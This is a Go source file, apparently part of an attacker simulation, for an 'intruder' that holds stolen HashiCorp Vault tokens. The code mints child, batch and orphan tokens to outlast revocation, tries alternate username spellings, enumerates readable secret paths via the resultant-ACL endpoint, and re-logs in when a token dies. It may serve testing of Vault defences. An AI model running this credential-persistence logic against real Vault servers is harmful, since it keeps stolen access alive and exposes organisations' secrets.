package intruder

import (
	"context"
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"time"
)

// Kinds of token that an eavesdropper holds.
const (
	ViaLogin    = "token" // of a login with what was stolen
	ViaSpelling = "token of another spelling"
	ViaChild    = "child token"
	ViaBatch    = "batch token"
	ViaOrphan   = "orphan token"
	ViaNew      = "token of a new value" // of a login with a value that it read
)

// vault is the server, whatever the way of logging in.
func (d *door) vault() doorKey { return doorKey{server: d.key.server, ca: d.key.ca} }

// stolenToken is one token and what it is good for.
type stolenToken struct {
	door    *door
	opener  *vaultOpener
	value   string
	of      *target // the login that it comes from
	via     string
	grown   bool // what can be made with it was made
	alive   bool
	looked  time.Time           // when it was last found dead
	denied  map[place]time.Time // when it was last refused there
	folders map[place]bool      // what its policies name
}

// take gets the token of a good login and says whether it is kept: one for
// each login, and another one when that is dead.
func (e *ear) take(d *door, t *target, token string) bool {
	via := ViaLogin
	if t.via == read {
		via = ViaNew
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.on || e.ctx.Err() != nil {
		return false
	}
	for _, have := range e.tokens {
		if have.of == t && have.via == via && have.alive {
			return false
		}
	}
	e.hold(&stolenToken{door: d, value: token, of: t, via: via})
	return true
}

// hold adds a token. The lock is held.
func (e *ear) hold(t *stolenToken) {
	t.alive, t.opener = true, newVaultOpener(t.door)
	t.denied, t.folders = map[place]time.Time{}, map[place]bool{}
	e.tokens = append(e.tokens, t)
	e.listed = time.Time{} // it may see more
}

// grow makes what can be made with a token: another spelling of its user, a
// child, a batch child, an orphan. And it asks Vault what the token may read.
func (e *ear) grow(ctx context.Context, t *stolenToken) {
	t.grown = true
	for _, made := range []struct {
		via, path string
		body      map[string]any
	}{
		{ViaChild, "auth/token/create", map[string]any{}},
		{ViaBatch, "auth/token/create", map[string]any{"type": "batch", "ttl": "1h"}},
		{ViaOrphan, "auth/token/create-orphan", map[string]any{}},
	} {
		if t.via == ViaLogin || t.via == ViaNew {
			if a, _, token := t.opener.login(ctx, made.path, t.value, made.body); a == accepted {
				e.add(t, token, made.via)
			}
		}
	}
	if up := strings.ToUpper(t.of.User); t.via == ViaLogin && up != t.of.User {
		if a, _, token := t.opener.login(ctx, "auth/"+t.of.Mount+"/login/"+url.PathEscape(up), "", map[string]any{"password": t.of.Password}); a == accepted {
			e.add(t, token, ViaSpelling)
		}
	}
	t.folders = t.opener.folders(ctx, t.value)
}

func (e *ear) add(from *stolenToken, token, via string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.hold(&stolenToken{door: from.door, value: token, of: from.of, via: via})
}

// folders are those that the token's policies name, as Vault tells every token
// that has the policy "default" (sys/internal/ui/resultant-acl).
func (o *vaultOpener) folders(ctx context.Context, token string) map[place]bool {
	out := map[place]bool{}
	_, _, body := o.call(ctx, "GET", "sys/internal/ui/resultant-acl", token, nil)
	var acl struct {
		Data struct {
			Exact map[string]json.RawMessage `json:"exact_paths"`
			Globs map[string]json.RawMessage `json:"glob_paths"`
		} `json:"data"`
	}
	if json.Unmarshal(body, &acl) != nil {
		return out
	}
	for _, paths := range []map[string]json.RawMessage{acl.Data.Exact, acl.Data.Globs} {
		for path := range paths {
			if mount, below, ok := strings.Cut(path, "/metadata/"); ok {
				out[place{o.door.vault(), mount, below[:strings.LastIndex(below, "/")+1]}] = true
			}
		}
	}
	return out
}

// doubt finds out whether a refusal means the place or the token.
func (e *ear) doubt(ctx context.Context, t *stolenToken, p place) {
	a, _, _ := t.opener.call(ctx, "GET", "auth/token/lookup-self", t.value, nil)
	switch a {
	case refused:
		e.setAlive(t, false)
		// Perhaps the login still gives another one: a thief would not wait.
		if t.via == ViaLogin && t.of.due(time.Now()) {
			e.r.knock(ctx, t.door, t.of)
		}
	case accepted:
		t.denied[p] = time.Now()
	}
}

// askAgain looks at a dead token now and then: Vault may have been asked in a
// moment in which it refused everybody.
func (e *ear) askAgain(ctx context.Context, t *stolenToken) {
	if time.Since(t.looked) < recheck {
		return
	}
	a, _, _ := t.opener.call(ctx, "GET", "auth/token/lookup-self", t.value, nil)
	e.setAlive(t, a == accepted)
}

func (e *ear) setAlive(t *stolenToken, alive bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	t.alive, t.looked = alive, time.Now()
}

func (e *ear) held() []*stolenToken {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Clone(e.tokens)
}
